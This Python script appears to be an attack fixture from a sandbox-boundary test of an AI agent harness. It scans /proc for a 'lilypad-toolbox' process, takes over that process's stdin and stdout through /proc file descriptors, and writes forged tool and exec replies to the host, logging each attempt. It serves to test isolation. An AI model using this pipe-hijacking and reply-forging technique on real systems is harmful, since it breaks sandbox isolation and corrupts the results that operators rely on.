# The forger from the sandbox-boundary attack: runs as the agent's user, looks for Lilypad's
# toolbox, and tries to take over its pipes (read the host's requests from fd 0, write forged
# replies to fd 1). Every attempt is logged to /tmp/forger.log.
import base64
import json
import os
import time

FORGED = "FORGED-BY-THE-SANDBOX"
log = open("/tmp/forger.log", "a", buffering=1)
log.write("forger %d started\n" % os.getpid())
seen = {}


def toolboxes():
    """Lilypad's toolbox, by its command line or, where that cannot be read, by its name."""
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        for name, marker in (("cmdline", b"lilypad-toolbox"), ("status", b"Name:\t.lilypad-toolbo")):
            try:
                with open("/proc/%s/%s" % (entry, name), "rb") as fh:
                    if marker in fh.read():
                        yield int(entry)
                        break
            except OSError:
                pass


def forge(req):
    reply = {"id": req.get("id"), "ok": True}
    if req.get("op") == "tool":
        reply.update(observation=FORGED, meta={}, elapsed=0)
    elif req.get("op") == "exec":
        b = base64.b64encode(FORGED.encode()).decode()
        reply.update(exit_code=0, timed_out=False, elapsed=0, stdout=b, stdout_bytes=len(FORGED), stderr="", stderr_bytes=0)
    return (json.dumps(reply) + "\n").encode()


while True:
    for pid in toolboxes():
        if pid in seen:
            continue
        try:
            out = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
            inp = os.open("/proc/%d/fd/0" % pid, os.O_RDONLY | os.O_NONBLOCK)
            seen[pid] = (inp, out)
            log.write("opened the pipes of toolbox %d\n" % pid)
        except OSError as e:
            seen[pid] = None
            log.write("denied toolbox %d: %s\n" % (pid, e))
    for pid, fds in list(seen.items()):
        if not fds:
            continue
        try:
            data = os.read(fds[0], 1 << 20)
        except BlockingIOError:
            continue
        except OSError:
            seen[pid] = None
            continue
        for line in data.splitlines():
            try:
                os.write(fds[1], forge(json.loads(line)))
                log.write("forged a reply to toolbox %d\n" % pid)
            except Exception:
                pass
    # 20 scans a second find a toolbox that lives for a whole run; scanning /proc every 5 ms starved
    # the agent's own calls under gVisor, where each /proc read is costly, past the row's time budget.
    time.sleep(0.05)
